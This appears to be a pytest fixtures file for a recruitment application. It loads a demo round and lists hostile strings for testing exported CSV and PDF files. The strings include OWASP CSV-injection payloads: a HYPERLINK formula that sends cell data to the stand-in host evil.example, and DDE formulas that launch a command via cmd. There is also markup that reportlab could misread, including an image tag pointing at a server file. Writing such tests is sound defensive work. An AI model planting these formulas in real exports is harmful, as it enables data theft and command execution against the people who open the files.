"""Fixtures for the files that leave the system: the demo round, and hostile text to put in it."""
from __future__ import annotations

import pytest

from recruitment.demo import run as load_demo
from recruitment.extensions import db
from recruitment.models import Round

# OWASP's CSV-injection payloads, and markup that reportlab would read as its own.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
MARKUP = ['<img src="/server/file.png"/> Lê Văn An', "Trần ‹Thị> Lan", "Trần <Thị> Lan", "Ngô <b>Văn & Minh",
          "Đỗ </para> Thị Hà"]


@pytest.fixture
def demo_round(app):
    load_demo(app, echo=lambda *_: None)
    return db.session.scalar(db.select(Round).filter_by(code="HP2026"))  # the demo also has HP2026-BS
